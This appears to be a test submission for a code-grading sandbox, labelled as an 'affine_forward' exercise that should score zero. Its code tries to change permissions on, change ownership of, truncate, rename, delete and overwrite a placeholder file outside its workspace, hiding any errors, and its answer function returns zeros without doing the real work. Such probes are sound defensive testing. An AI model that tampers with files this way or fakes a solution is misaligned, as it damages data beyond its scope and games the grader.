# what: mode, owner, times, length and attributes of a file outside
# unit: 00_start_here
# exercise: affine_forward
# score: 0
import os
for do in (lambda: os.chmod("{CANARY}", 0o777), lambda: os.chown("{CANARY}", 1, 1),
           lambda: os.utime("{CANARY}"), lambda: os.truncate("{CANARY}", 0),
           lambda: os.setxattr("{CANARY}", "user.x", b"1"), lambda: os.rename("{CANARY}", "mine"),
           lambda: os.remove("{CANARY}"), lambda: os.replace("x", "{CANARY}")):
    try: do()
    except OSError: pass
def affine_forward(x, W, b):
    return np.zeros((len(x), len(b))), (x, W)
